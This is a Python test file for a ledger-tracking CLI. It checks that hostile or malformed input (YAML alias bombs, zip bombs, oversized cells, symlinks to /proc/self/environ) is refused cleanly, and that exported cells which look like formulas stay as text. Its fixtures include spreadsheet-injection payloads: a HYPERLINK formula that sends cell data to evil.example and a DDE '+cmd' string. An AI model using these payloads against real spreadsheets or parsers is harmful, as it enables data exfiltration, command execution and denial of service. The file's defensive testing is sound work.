"""Bad input fails cleanly (issue #11): a message naming the place, exit 2, nothing written, no
traceback — for workflow YAML, ledgers and CLI arguments alike."""

from __future__ import annotations

import csv
import zipfile

import openpyxl
import pytest

from .conftest import SEED_CSV

HEADERS = ["序号", "方面", "问题类别", "具体问题", "整改措施", "责任领导", "责任科室", "整改时限", "整改状态"]


@pytest.mark.parametrize("name, text, message", [
    ("bomb", "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join([f'*{chr(97 + i)}'] * 9)}]\n" for i in range(8)),
     "more than 100,000 values (aliases expanding?)"),
    ("deep", "a: " + "[" * 3000 + "]" * 3000 + "\n", "nested too deeply"),
    ("bigint", "name: x\ninitial: " + "9" * 5000 + "\n", ":2:10: not a usable value"),
    ("long", "name: x\ntitle: " + "长" * 30000 + "\n", ":2:8: a value of 30,000 characters"),
])
def test_hostile_yaml_is_refused_with_its_place(cli, tmp_path, name, text, message):
    path = tmp_path / f"{name}.yaml"
    path.write_text(text, encoding="utf-8")
    result = cli("workflow", "validate", path)
    assert result.code == 2 and "Traceback" not in result.err
    assert message in result.err and str(path) in result.err


def _xlsx(path, rows, merge=()):
    book = openpyxl.Workbook()
    ws = book.active
    ws.append(HEADERS)
    for row in rows:
        ws.append(row)
    for rng in merge:
        ws.merge_cells(rng)
    book.save(path)
    return path


def test_merged_area_cells_read_as_excel_shows_them(cli, tmp_path):
    assert cli("init").code == 0
    rows = [[str(i), "党的建设" if i == 1 else None, "组织建设" if i == 1 else None, f"问题{i}", "措施", "书记", "办公室",
             "2026-12-31", "待整改"] for i in (1, 2, 3)]
    path = _xlsx(tmp_path / "merged.xlsx", rows, merge=("B2:B4", "C2:C4"))
    assert cli("ledger", "import", path, "--at", "2026-12-01T10:00").code == 0
    shown = cli("issue", "list", "--json").json
    assert [(r["area"], r["category"]) for r in shown] == [("党的建设", "组织建设")] * 3


@pytest.mark.parametrize("make, message", [
    (lambda p: p.write_bytes(b"PK\x03\x04 not really a zip"), "not a readable XLSX workbook"),
    (lambda p: p.write_text("序号,具体问题\n1,x\n", encoding="utf-8"), "not a readable XLSX workbook"),
    (lambda p: p.write_bytes(SEED_CSV.read_bytes()[:0]), "not a readable XLSX workbook"),
])
def test_a_file_that_is_not_a_workbook_is_one_clear_line(cli, tmp_path, make, message):
    assert cli("init").code == 0
    path = tmp_path / "ledger.xlsx"
    make(path)
    result = cli("ledger", "import", path)
    assert result.code == 2 and message in result.err and "Traceback" not in result.err
    assert cli("issue", "list", "--json").json == []


def test_a_truncated_workbook_and_a_zip_bomb_are_refused(cli, tmp_path):
    assert cli("init").code == 0
    good = _xlsx(tmp_path / "good.xlsx", [["1", "a", "b", "问题", "措施", "书记", "办公室", "2026-12-31", "待整改"]])
    cut = tmp_path / "cut.xlsx"
    cut.write_bytes(good.read_bytes()[: len(good.read_bytes()) // 2])
    assert cli("ledger", "import", cut).code == 2
    bomb = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * (300 * 1024 * 1024))
    result = cli("ledger", "import", bomb)
    assert result.code == 2 and "expands to 300 MB" in result.err
    assert cli("issue", "list", "--json").json == []


def test_an_oversized_cell_names_its_row_and_column(cli, tmp_path):
    assert cli("init").code == 0
    path = tmp_path / "big.csv"  # (openpyxl itself cuts a workbook's cells at Excel's limit)
    path.write_text(",".join(HEADERS) + "\n1,a,b," + "问题" * 20000 + ",措施,书记,办公室,2026-12-31,待整改\n",
                    encoding="utf-8")
    result = cli("ledger", "import", path)
    assert result.code == 2 and f"{path}: row 2: 具体问题: a cell of 40,000 characters" in result.err
    assert cli("issue", "list", "--json").json == []


def test_far_dates_are_refused_everywhere(cli, tmp_path):
    assert cli("init").code == 0
    rows = list(csv.DictReader(SEED_CSV.open(encoding="utf-8")))
    rows[0]["整改时限"] = "9999-12-31"
    path = tmp_path / "far.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    result = cli("ledger", "import", path)
    assert result.code == 2 and "row 2: 整改时限: 9999-12-31 is outside the supported years 1970–2100" in result.err
    for args in (("sweep", "--at", "0001-01-01T00:00+14:00"), ("duty", "list", "--from", "9999-01-01"),
                 ("remind", "preview", "--until", "9999-12-31T23:59:59")):
        got = cli(*args)
        assert got.code == 2 and "outside the supported years" in got.err and "Traceback" not in got.err, args


def test_an_internal_error_is_one_line_and_exit_70(cli, monkeypatch):
    from engine.app.cli import init as init_cli

    def boom(*args, **kwargs):
        raise ZeroDivisionError("a bug")

    monkeypatch.setattr(init_cli, "upgrade_schema", boom)
    monkeypatch.setattr("engine.store.db.upgrade", boom)
    result = cli("init")
    assert result.code == 70 and "Traceback" not in result.err
    assert "internal error: ZeroDivisionError: a bug" in result.err and "duban-internal-error-" in result.err


def test_exports_write_formula_looking_cells_as_text(cli, tmp_path):
    assert cli("init").code == 0
    rows = [["1", "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点这里\")", "+cmd|' /C calc'!A0", "@SUM(1)", "-1+2",
             "措施", "书记", "办公室", "2026-12-31", "待整改"]]
    rows = [[r[0], r[1], r[2], r[3], r[5], r[6], r[7], r[8], r[9]] for r in rows]
    path = tmp_path / "in.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        out = csv.writer(fh)
        out.writerow(HEADERS)
        out.writerows(rows)
    assert cli("ledger", "import", path, "--ledger", "L").code == 0
    xlsx, again = tmp_path / "out.xlsx", tmp_path / "out.csv"
    assert cli("ledger", "export", xlsx, "--ledger", "L").code == 0
    assert cli("ledger", "export", again, "--ledger", "L").code == 0
    ws = openpyxl.load_workbook(xlsx).active
    row = list(ws[3])  # under the title row and the header
    assert all(c.data_type == "s" for c in row[1:4]) and row[1].value.startswith("=HYPERLINK")
    text = again.read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in text and "'+cmd" in text and "'@SUM(1)" in text
    # and a round trip through the CSV gives the text back unchanged
    assert cli("ledger", "import", again, "--ledger", "L").code == 0
    assert "0 updated" in cli("ledger", "import", again, "--ledger", "L").out
    assert cli("issue", "show", "L/1", "--json").json["area"].startswith("=HYPERLINK")


def test_evidence_must_be_a_regular_document_within_the_limit(cli, tmp_path):
    assert cli("init").code == 0
    assert cli("ledger", "import", SEED_CSV, "--feedback-date", "2022-07-15").code == 0
    assert cli("issue", "transition", "bishan-keji-2022/7", "reopen", "--by", "分管副局长", "--note", "反弹").code == 0
    link = tmp_path / "environ.pdf"
    link.symlink_to("/proc/self/environ")
    for path, message in ((tmp_path, "is a folder"), (link, "not a regular file"),
                          (tmp_path / "none.pdf", "evidence file not found")):
        result = cli("issue", "transition", "bishan-keji-2022/7", "submit", "--by", "科技管理科", "--evidence", path)
        assert result.code == 2 and message in result.err, (path, result.err)
    big = tmp_path / "big.pdf"
    with big.open("wb") as fh:
        fh.truncate(3 * 1024 * 1024)
    config = tmp_path / "config.toml"
    config.write_text(config.read_text(encoding="utf-8") + "[evidence]\nmax_bytes = 2097152\n", encoding="utf-8")
    result = cli("issue", "transition", "bishan-keji-2022/7", "submit", "--by", "科技管理科", "--evidence", big)
    assert result.code == 2 and "more than the evidence limit of 2 MB" in result.err
    assert cli("issue", "show", "bishan-keji-2022/7", "--json").json["state"] == "in_progress"


@pytest.mark.parametrize("key, value", [("smtp_password", "x"), ("passwd", "x"), ("api_key", "x"),
                                        ("access_token", "x"), ("Secret", "x"),
                                        ("url", "https://bob:hunter2@oa.example.org/hook")])
def test_secrets_inline_in_a_channel_are_refused(key, value):
    from notifications.channels import build_channel

    with pytest.raises(Exception) as info:
        build_channel("hook", {"kind": "webhook", "url": "https://oa.example.org/hook", key: value})
    assert (key in str(info.value) and "environment variable" in str(info.value)) or "credentials" in str(info.value)
    assert value not in str(info.value) or value == "x"


def test_an_exported_formula_opens_in_libreoffice_as_text(cli, tmp_path):
    import subprocess

    from .test_report import require_tools

    require_tools("soffice")
    assert cli("init").code == 0
    path = tmp_path / "in.csv"
    path.write_text(",".join(HEADERS) + '\n1,=1+1,@SUM(2;3),"=HYPERLINK(""http://evil.example"";""x"")",措施,书记,办公室,'
                    "2026-12-31,待整改\n", encoding="utf-8")
    assert cli("ledger", "import", path, "--ledger", "L").code == 0
    xlsx = tmp_path / "out.xlsx"
    assert cli("ledger", "export", xlsx, "--ledger", "L").code == 0
    profile = tmp_path / "lo-profile"
    done = subprocess.run(["soffice", f"-env:UserInstallation=file://{profile}", "--headless", "--convert-to",
                           "csv:Text - txt - csv (StarCalc):44,34,76", "--outdir", str(tmp_path / "lo"), str(xlsx)],
                          capture_output=True, text=True, timeout=240)
    shown = (tmp_path / "lo" / "out.csv").read_text(encoding="utf-8")
    assert "=1+1" in shown and "@SUM(2;3)" in shown and "=HYPERLINK(" in shown, done.stdout + done.stderr + shown
    assert ",2," not in shown  # LibreOffice did not compute 1+1


def test_an_unknown_channel_setting_is_named():
    from notifications.channels import build_channel

    with pytest.raises(Exception) as info:
        build_channel("ding", {"kind": "dingtalk", "url": "https://oapi.dingtalk.com/robot/send", "timout": 5})
    assert "unknown setting 'timout'" in str(info.value) and "secret_env, timeout, url" in str(info.value)


def _rewrite(path, old: bytes, new: bytes):
    """The same workbook with one byte string of its sheet's XML replaced (to craft what openpyxl
    will not write: an oversized cell, or a formula with its saved result)."""
    data = {}
    with zipfile.ZipFile(path) as archive:
        for info in archive.infolist():
            data[info.filename] = archive.read(info)
    data["xl/worksheets/sheet1.xml"] = data["xl/worksheets/sheet1.xml"].replace(old, new)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in data.items():
            archive.writestr(name, content)
    return path


def test_a_formula_saved_without_its_value_is_refused_and_a_calculated_one_reads_as_shown(cli, tmp_path):
    assert cli("init").code == 0
    rows = [["1", "党的建设", "组织建设", '="问题"&"甲"', "措施", "书记", "办公室", "2026-12-31", "待整改"],
            ["2", "党的建设", "组织建设", "问题乙", "措施", "书记", "办公室", "2026-12-31", "待整改"]]
    raw = _xlsx(tmp_path / "raw.xlsx", rows)  # openpyxl writes formulas and never calculates them
    result = cli("ledger", "import", raw)
    assert result.code == 2 and "Traceback" not in result.err
    assert f"{raw}: row 2: 具体问题: a formula with no saved value" in result.err and "save it again" in result.err
    assert cli("issue", "list", "--json").json == []
    calculated = _rewrite(_xlsx(tmp_path / "calc.xlsx", rows), b'<c r="D2"><f>', b'<c r="D2" t="str"><f>')
    calculated = _rewrite(calculated, b"</f><v></v>", "</f><v>问题甲</v>".encode())
    assert cli("ledger", "import", calculated).code == 0
    assert [r["title"] for r in cli("issue", "list", "--json").json] == ["问题甲", "问题乙"]


def test_an_oversized_workbook_cell_names_its_row_and_column(cli, tmp_path):
    assert cli("init").code == 0
    rows = [["1", "a", "b", "PLACEHOLDER", "措施", "书记", "办公室", "2026-12-31", "待整改"]]
    path = _rewrite(_xlsx(tmp_path / "big.xlsx", rows), b"PLACEHOLDER", ("问题" * 20000).encode())
    result = cli("ledger", "import", path)
    assert result.code == 2 and f"{path}: row 2: 具体问题: a cell of 40,000 characters" in result.err
    assert cli("issue", "list", "--json").json == []
